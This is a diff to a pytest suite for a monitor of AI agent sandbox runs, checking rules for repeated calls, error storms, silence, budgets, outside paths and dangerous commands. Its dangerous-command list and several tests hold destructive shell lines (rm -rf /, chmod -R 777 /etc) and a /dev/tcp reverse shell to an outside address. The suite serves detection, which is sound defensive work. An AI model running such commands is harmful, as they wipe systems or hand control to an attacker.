@@ -4,8 +4,10 @@ from typing import Any
 
 import pytest
 
-from contracts.errors import Invalid
-from contracts.events import agent, file, guardian, sandbox
+from contracts.commands.command import Asker
+from contracts.errors import Failure, Invalid
+from contracts.events import agent, file, guardian, sandbox, tool
+from contracts.events.command import CommandStarted
 from contracts.guardian import (
     AlternatingLoop,
     Budget,
@@ -15,6 +17,7 @@ from contracts.guardian import (
     NoProgress,
     OutsidePaths,
     RepeatedCall,
+    Step,
 )
 from contracts.spec import Permissions, SandboxSpec
 from services.guardian.engine import bind
@@ -77,6 +80,49 @@ def test_answers_that_come_out_of_order_belong_to_their_own_questions() -> None:
     assert judge(story, Guardian(repeated_call=RepeatedCall(times=2)), "repeated_call") == []
 
 
+def test_answers_to_questions_that_nobody_heard_are_not_alike() -> None:
+    story = Story().begin().run()
+    for number in range(6):
+        story.tell(agent.AgentToolResult(run=RUN, call=f"unheard-{number}", ok=True, output="ok"))
+    assert judge(story, Guardian(repeated_call=RepeatedCall(times=2))) == []
+
+
+def test_a_run_may_be_called_as_a_lane_is() -> None:
+    story = Story().begin().run("command").ran("true").ran("true").ran("true")
+    for _ in range(3):
+        story.call("Read", "x", run="command", path="a")
+    (found,) = judge(story, Guardian(repeated_call=RepeatedCall(times=3)))
+    assert found.decision.finding.run == "command"
+
+
+def lasting(seconds: float) -> Story:
+    story = Story().begin().run()
+    for _ in range(5):
+        story.use("Bash", command="make").tell(agent.AgentToolResult(run=RUN, call="open", ok=True, output=""), seconds)
+    return story
+
+
+def test_a_call_that_takes_long_by_itself_is_waiting() -> None:
+    assert rules_of(judge(lasting(4.9))) == ["repeated_call"]
+    assert judge(lasting(5)) == []
+    assert rules_of(judge(lasting(5), Guardian(repeated_call=RepeatedCall(waits_s=6)))) == ["repeated_call"]
+
+
+def test_rounds_that_are_slower_than_the_setting_are_polling() -> None:
+    settings = Guardian(alternating_loop=AlternatingLoop(times=2, within_s=10))
+    assert judge(calls(*"abab", after=3), settings) == []
+    assert rules_of(judge(calls(*"abab", after=2), settings)) == ["alternating_loop"]
+
+
+def test_a_loop_of_a_subagent_is_found_and_is_its_runs() -> None:
+    story = Story().begin().run()
+    for number in range(5):
+        use = agent.AgentToolUse(run=RUN, call=f"c{number}", tool="Read", input={"path": "a"}, parent="task-1")
+        story.tell(use).tell(agent.AgentToolResult(run=RUN, call=f"c{number}", ok=True, output="x"))
+    (found,) = judge(story)
+    assert (found.rule, found.decision.finding.run) == ("repeated_call", RUN)
+
+
 def test_one_call_alone_is_no_alternation() -> None:
     assert judge(calls(*"aaaaaaaa"), None, "alternating_loop") == []
 
@@ -106,6 +152,35 @@ def test_a_storm_is_a_share_of_the_last_results() -> None:
 def test_errors_that_are_all_different_are_no_storm() -> None:
     assert failures("abcdefghijk", ErrorStorm(last=5)) == []
     assert failures("ababcdabab", ErrorStorm(last=5)) == ["error_storm"]
+
+
+def test_errors_that_come_slowly_are_no_storm() -> None:
+    story = Story().begin().run()
+    for _ in range(5):
+        story.call("Bash", "no", ok=False, command="make", after=9)
+    assert rules_of(judge(story, Guardian(error_storm=ErrorStorm(last=5, within_s=40)), "error_storm")) == [
+        "error_storm"
+    ]
+    assert judge(story, Guardian(error_storm=ErrorStorm(last=5, within_s=39)), "error_storm") == []
+
+
+def test_a_command_that_fails_with_words_is_an_error_and_one_that_only_says_no_is_not() -> None:
+    settings = Guardian(error_storm=ErrorStorm(last=3))
+    for code, stdout, is_error in ((1, 0, False), (1, 5, True), (2, 0, True)):
+        story = Story().begin()
+        for _ in range(3):
+            story.ran("probe", code=code, stdout=stdout)
+        assert bool(judge(story, settings)) == is_error
+
+
+def test_a_file_that_is_not_there_yet_is_an_answer_and_one_that_may_not_be_read_is_an_error() -> None:
+    settings = Guardian(error_storm=ErrorStorm(last=3))
+    for code, is_error in (("SANDBOX_FILE_NOT_FOUND", False), ("SANDBOX_PATH_DENIED", True)):
+        story, failure = Story().begin(), Failure(code=code, message="no")
+        for number in range(3):
+            story.tell(tool.ToolInvoked(call=f"{number}", tool="stat", arguments={"path": "done"}))
+            story.tell(tool.ToolReturned(call=f"{number}", tool="stat", duration_ms=1, failure=failure))
+        assert bool(judge(story, settings)) == is_error
 
 
 def test_silence_is_found_when_it_has_lasted_as_long_as_the_setting_says() -> None:
@@ -156,6 +231,11 @@ def test_time_passes_again_when_the_command_has_ended() -> None:
 
 def test_the_process_of_the_agent_itself_is_nothing_that_it_waits_for() -> None:
     story = Story().begin().run().command("claude", exec_id=RUN)
+    assert rules_of(judge(story, MINUTE, silence_s=61)) == ["no_progress"]
+
+
+def test_the_process_of_the_agent_may_be_on_the_log_before_the_agent() -> None:
+    story = Story().begin().command("claude", exec_id=RUN).run()
     assert rules_of(judge(story, MINUTE, silence_s=61)) == ["no_progress"]
 
 
@@ -212,6 +292,38 @@ def test_a_budget_is_of_one_run_and_counts_tokens_too() -> None:
     assert [each.decision.finding.run for each in judge(story.spent(0, run="two", tokens=30), settings)] == ["two"]
 
 
+def test_a_runs_own_budget_goes_before_the_settings() -> None:
+    own = agent.AgentStarted(run=RUN, runtime="script", prompt="", max_budget_usd=100, max_turns=2)
+    story = Story().begin().tell(own).tell(agent.AgentMetrics(run=RUN, cost_usd=50, turns=2))
+    found = judge(story, Guardian(budget=Budget(max_usd=1, max_turns=1000)))
+    assert [(each.decision.finding.key, each.decision.finding.text) for each in found] == [
+        (f"{RUN}/turns/spent", "the budget is spent: 2 of 2 turns")
+    ]
+
+
+def test_time_is_spent_also_while_nothing_happens_and_at_exact_moments() -> None:
+    own = agent.AgentStarted(run=RUN, runtime="script", prompt="", timeout_ms=100_000)
+    found = judge(Story().begin().tell(own), None, "budget", silence_s=1000)
+    assert [(each.decision.finding.key, each.after_s, each.sequence) for each in found] == [
+        (f"{RUN}/time/near", 84.0, 4),
+        (f"{RUN}/time/spent", 104.0, 4),
+    ]
+    assert judge(Story().begin().tell(own).finished(), None, "budget", silence_s=1000) == []
+    assert len(judge(Story().begin().run(), Guardian(budget=Budget(max_s=100)), "budget", silence_s=1000)) == 2
+
+
+def test_what_is_nearly_spent_gets_no_further_than_guidance() -> None:
+    settings = Guardian(budget=Budget(max_usd=10, step=Step.STOP))
+    found = judge(Story().begin().run().spent(9).spent(2), settings)
+    assert [each.step for each in found] == [Step.GUIDANCE, Step.STOP]
+
+
+@pytest.mark.parametrize("bound", [0, -1, 10**18])
+def test_a_budget_that_makes_no_sense_is_none(bound: int) -> None:
+    own = agent.AgentStarted(run=RUN, runtime="script", prompt="", max_tokens=bound, timeout_ms=bound)
+    assert judge(Story().begin().tell(own).spent(0, tokens=10), None, "budget", silence_s=1e9) == []
+
+
 def test_costs_that_make_no_sense_do_not_give_a_budget_back() -> None:
     story = Story().begin().run().spent(9).spent(-100).spent(1e308).spent(1e308).spent(1e308)
     found = judge(story, Guardian(budget=Budget(max_usd=10)))
@@ -240,6 +352,15 @@ DANGEROUS = [
     "git push -f",
     "reboot",
     "RM -RF /",
+    "rm -rf build /",
+    "bash -c 'rm -rf /'",
+    'sh -e -c "rm -rf ~"',
+    "if true; then rm -rf /; fi",
+    "nohup rm -rf / &",
+    "chmod -R 777 /etc",
+    "0<&196;exec 196<>/dev/tcp/203.0.113.9/4444; sh <&196",
+    "cat < /dev/tcp/evil.example.org/80",
+    "true; reboot; true",
 ]
 HARMLESS = [
     "rm -rf node_modules",
@@ -256,6 +377,14 @@ HARMLESS = [
     "npm run format",
     "cat docs/etc/shadowing.md",
     "find . -name '*.sh' | xargs wc -l",
+    "(echo > /dev/tcp/localhost/5432) && echo up",
+    "exec 3<>/dev/tcp/127.0.0.1/80",
+    "nc -z my-database-service 5432",
+    "cat ~/.ssh/id_ed25519.pub",
+    "chmod -R 777 /workspace/tmp",
+    'rm -rf "$HOME/.cache" ~/.npm',
+    "grep -c reboot /var/log/x",
+    "git commit -m 'then reboot'",
 ]
 
 
@@ -265,6 +394,7 @@ def test_a_dangerous_command_is_found_however_it_is_run(line: str) -> None:
         Story().begin().command("/bin/sh", "-c", line),
         Story().begin().run().use("Bash", command=line),
         Story().begin().run().use("run", argv=["bash", "-lc", line]),
+        Story().begin().run().use("run", argv=["/bin/bash", "-e", "-c", line]),
     ):
         assert rules_of(judge(story))[:1] == ["dangerous_command"]
 
@@ -337,3 +467,46 @@ def test_a_move_out_of_the_paths_counts_from_both_sides() -> None:
     facts = file.FileFacts(size=1, mode=0o644)
     moved = file.FileMoved(path="/workspace/src/a", moved_from="/workspace/b", facts=facts)
     assert rules_of(judge(Story().begin().tell(moved), SRC)) == ["outside_paths"]
+
+
+def test_who_fills_a_tree_elsewhere_is_told_of_once() -> None:
+    story = Story().begin()
+    for number in range(50):
+        story.changed(f"/workspace/docs/{number}/a", after=0.1)
+    story.changed("/workspace/other/a").changed("/etc/a/b").changed("/etc/a/c")
+    assert len(judge(story, SRC)) == 3
+
+
+def test_a_dangerous_command_in_another_shape_is_told_and_escalated() -> None:
+    settings = Guardian(dangerous_command=DangerousCommand(step=Step.GUIDANCE, up_to=Step.STOP))
+    story = Story().begin().run()
+    for number in range(3):
+        story.use("Bash", command=f"rm -rf / # {number}", after=11)
+    assert [each.step for each in judge(story, settings)] == [Step.GUIDANCE, Step.INTERRUPT, Step.PAUSE]
+
+
+def test_what_an_agent_asks_for_and_then_runs_is_found_once() -> None:
+    line = "rm -rf /"
+    story = Story().begin().run().use("run", command=line).command("/bin/sh", "-c", line, after=3600)
+    assert len(judge(story)) == 1
+    assert len(judge(story.command("/bin/sh", "-c", line, exec_id="x-2"))) == 2
+    by_another = (
+        Story()
+        .begin()
+        .run()
+        .use("run", command=line)
+        .tell(CommandStarted(exec="x-1", argv=("/bin/sh", "-c", line), cwd="/", asker=Asker.USER))
+    )
+    assert len(judge(by_another)) == 2
+
+
+def test_a_step_that_nobody_is_there_for_is_held_also_over_history() -> None:
+    settings = Guardian(dangerous_command=DangerousCommand(step=Step.GUIDANCE, up_to=Step.STOP, cooldown_s=0))
+    story = Story().begin().command("rm", "-rf", "/").command("rm", "-rf", "/").run().use("Bash", command="rm -rf /")
+    found = judge(story.tell(sandbox.SandboxStopped(reason="asked")).command("rm", "-rf", "~"), settings)
+    assert [(each.step, each.decision.held) for each in found] == [
+        (Step.GUIDANCE, "no run is open"),
+        (Step.GUIDANCE, "no run is open"),
+        (Step.GUIDANCE, ""),
+        (Step.GUIDANCE, "the sandbox is stopped"),
+    ]
